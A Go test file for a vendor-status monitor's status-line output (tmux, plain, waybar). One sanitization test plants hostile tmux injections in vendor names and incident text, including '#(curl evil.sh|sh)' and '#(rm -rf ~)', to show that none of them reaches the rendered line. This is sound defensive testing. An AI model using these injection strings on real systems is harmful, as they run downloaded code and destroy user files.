package output

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"

	"github.com/vendorwatch/vendorwatch/correlate"
	"github.com/vendorwatch/vendorwatch/observe"
)

func calmReport(n int) *correlate.Report {
	r := &correlate.Report{SchemaVersion: 1, Overall: correlate.LevelOK}
	for i := range n {
		r.Vendors = append(r.Vendors, correlate.VendorReport{VendorResult: observe.VendorResult{ID: string(rune('a' + i)), Name: "V"}, Level: correlate.LevelOK})
	}
	return r
}

func TestLine(t *testing.T) {
	names := map[string]string{"openai": "OpenAI", "vapi": "VAPI"}
	rep := sampleReport()
	rep.Findings = append(rep.Findings,
		correlate.Finding{Kind: correlate.KindVendorOutage, Severity: correlate.SeverityWarning, Vendors: []string{"vapi"}},
		correlate.Finding{Kind: correlate.KindVendorIncident, Severity: correlate.SeverityInfo, Vendors: []string{"openai"}},
	)
	tests := []struct {
		name string
		r    *correlate.Report
		o    LineOptions
		want string
	}{
		{"all ok", calmReport(12), LineOptions{}, "#[fg=green]● 12 ok#[default]"},
		{"worst first", &rep, LineOptions{Names: names}, "#[fg=red]✖ OpenAI key#[default] #[fg=yellow]▲ VAPI#[default]"},
		{"plain ascii", &rep, LineOptions{Names: names, Format: LinePlain, ASCII: true}, "X OpenAI key ! VAPI"},
		{"no cache yet", nil, LineOptions{}, "#[fg=colour244]? vendorwatch#[default]"},
		{"stale", calmReport(3), LineOptions{Stale: true, Age: 7 * time.Minute}, "#[fg=green]● 3 ok#[default] #[fg=colour244]⌛ 7m#[default]"},
		{"width cap", &rep, LineOptions{Names: names, Format: LinePlain, MaxWidth: 15}, "✖ OpenAI key +1"},
		{"width cut", &rep, LineOptions{Names: names, Format: LinePlain, MaxWidth: 8}, "✖ OpenAI"},
		{"confirming and recovering", &correlate.Report{Overall: correlate.LevelOK, Findings: []correlate.Finding{
			{Kind: correlate.KindVendorOutageUnreported, Severity: correlate.SeverityWarning, State: correlate.StatePending, Vendors: []string{"vapi"}},
			{Kind: correlate.KindKeyRevoked, Severity: correlate.SeverityCritical, State: correlate.StateClosing, Vendors: []string{"openai"}},
			{Kind: correlate.KindVendorIncident, Severity: correlate.SeverityWarning, State: correlate.StateOpen, Vendors: []string{"github"}},
		}}, LineOptions{Names: map[string]string{"vapi": "VAPI", "openai": "OpenAI", "github": "GitHub"}, Format: LinePlain}, "▲ GitHub ? VAPI"},
		{"network", &correlate.Report{Overall: correlate.LevelWarning, Findings: []correlate.Finding{{Kind: correlate.KindNetworkLocal, Severity: correlate.SeverityWarning}}}, LineOptions{Format: LinePlain}, "▲ our network"},
		{"our traffic, and its Prometheus", &correlate.Report{Overall: correlate.LevelCritical, Findings: []correlate.Finding{
			{Kind: correlate.KindTrafficAuthErrors, Severity: correlate.SeverityCritical, Vendors: []string{"openai"}},
			{Kind: correlate.KindTrafficSourceDown, Severity: correlate.SeverityWarning, Vendors: []string{}},
		}}, LineOptions{Names: names, Format: LinePlain}, "✖ OpenAI traffic ▲ prometheus"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Line(tt.r, tt.o); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

// Remote text must never reach the line: tmux runs #(…) and restyles on
// #[…]. Names come from the local config; a report's own names and every
// incident title are ignored, and even config names lose '#'.
func TestLineNeverCarriesRemoteText(t *testing.T) {
	rep := sampleReport()
	rep.Vendors[1].Name = "#(curl evil.sh|sh)"
	rep.Vendors[1].Status.Incidents[0].Title = "#(touch /tmp/pwned) #[fg=blue]"
	rep.Findings = []correlate.Finding{{Kind: correlate.KindVendorOutage, Severity: correlate.SeverityCritical, Vendors: []string{"vapi"},
		Title: "#(touch /tmp/pwned)", Detail: "#(rm -rf ~)"}}
	for _, names := range []map[string]string{
		{"vapi": "VAPI"},
		{"vapi": "VA#(PI)\x1b[31m"},
		nil, // no config names: the report's name is used, sanitized
	} {
		for _, f := range []LineFormat{LineTmux, LinePlain, LineWaybar} {
			got := Line(&rep, LineOptions{Names: names, Format: f})
			body := strings.ReplaceAll(strings.ReplaceAll(got, "#[fg=red]", ""), "#[default]", "")
			if strings.Contains(body, "#") || strings.Contains(got, "pwned") || strings.Contains(got, "\x1b") {
				t.Errorf("%s with names %v: %q", f, names, got)
			}
		}
	}
}

func TestLineWaybar(t *testing.T) {
	rep := sampleReport()
	var doc struct{ Text, Tooltip, Class, Alt string }
	if err := json.Unmarshal([]byte(Line(&rep, LineOptions{Format: LineWaybar, Names: map[string]string{"openai": "OpenAI"}})), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Text != "✖ OpenAI key" || doc.Class != "critical" || !strings.Contains(doc.Tooltip, "2 vendors") {
		t.Errorf("waybar = %+v", doc)
	}
}

func TestLineMaxWidthHolds(t *testing.T) {
	rep := sampleReport()
	for w := 1; w < 40; w++ {
		got := Line(&rep, LineOptions{Format: LinePlain, MaxWidth: w})
		if n := ansi.StringWidth(got); n > w {
			t.Errorf("max width %d: %q is %d wide", w, got, n)
		}
	}
}

func BenchmarkLine(b *testing.B) {
	rep := sampleReport()
	names := map[string]string{"openai": "OpenAI", "vapi": "VAPI"}
	for b.Loop() {
		Line(&rep, LineOptions{Names: names, MaxWidth: 60})
	}
}
